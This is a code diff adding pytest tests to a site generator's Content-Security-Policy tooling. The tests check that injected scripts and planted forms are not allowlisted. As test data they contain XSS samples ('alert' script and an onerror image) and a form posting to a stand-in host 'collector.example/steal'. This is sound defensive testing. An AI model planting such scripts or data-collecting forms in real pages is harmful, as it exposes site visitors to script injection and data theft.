@@ -15,8 +15,10 @@ import pytest
 from headers_files import (
     apache_conditions, apache_matches, built_urls, netlify_matches, netlify_rules, nginx_locations,
 )
-from support import html
+from support import build, html
 
+from host_headers.form_hosts import configured_form_origins
+from host_headers.page_facts import read_facts, script_hash
 from hub.assets import is_fingerprinted
 
 NGINX = "/usr/sbin/nginx"
@@ -213,3 +215,31 @@ def test_headers_in_meta_put_each_pages_policy_first_in_its_head(tmp_path):
     # a second build leaves one policy per page, not two
     fresh_build(output, HEADERS_IN_META=True)
     assert page.read_text(encoding="utf-8").count('http-equiv="Content-Security-Policy"') == 1
+
+
+def test_only_the_themes_inline_scripts_in_the_head_are_allowed():
+    data = '{"@type": "Article"}'
+    page = (
+        f'<html><head><script type="application/ld+json">{data}</script><script src="/theme/js/share.js"></script>'
+        '</head><body><p>Hi</p><script>alert(1)</script><img src=x onerror="alert(2)">'
+        '<script src="/theme/js/search.js"></script></body></html>'
+    )
+    facts = read_facts(page)
+    assert facts.script_hashes == (script_hash(data),), "a script planted in the body is never allowed by hash"
+    assert facts.script_files == ("share.js", "search.js")
+
+
+def test_a_form_planted_in_a_tip_cannot_open_form_action_to_its_host(content, tmp_path):
+    tip = content / "tips" / "give-first.en.md"
+    tip.write_text(
+        tip.read_text(encoding="utf-8") + '\n<form action="https://collector.example/steal"><button>Go</button></form>\n',
+        encoding="utf-8",
+    )
+    output = tmp_path / "output"
+    build(output, PATH=str(content))
+    assert "collector.example" in "".join(path.read_text(encoding="utf-8") for path in output.glob("en/tips/*/index.html"))
+    assert "collector.example" not in read(output, "_headers")
+    settings = {"NEWSLETTER": {"provider": "buttondown", "username": "hub"}, "LANGUAGES": {"en": {}},
+                "STORIES": {"form": {"action": "https://forms.example/f/1"}},
+                "EVENT_SIGNUP": {"open-evening": {"fr": {"provider": "generic", "action": "https://events.example/x"}}}}
+    assert configured_form_origins(settings) == ["https://buttondown.com", "https://events.example", "https://forms.example"]
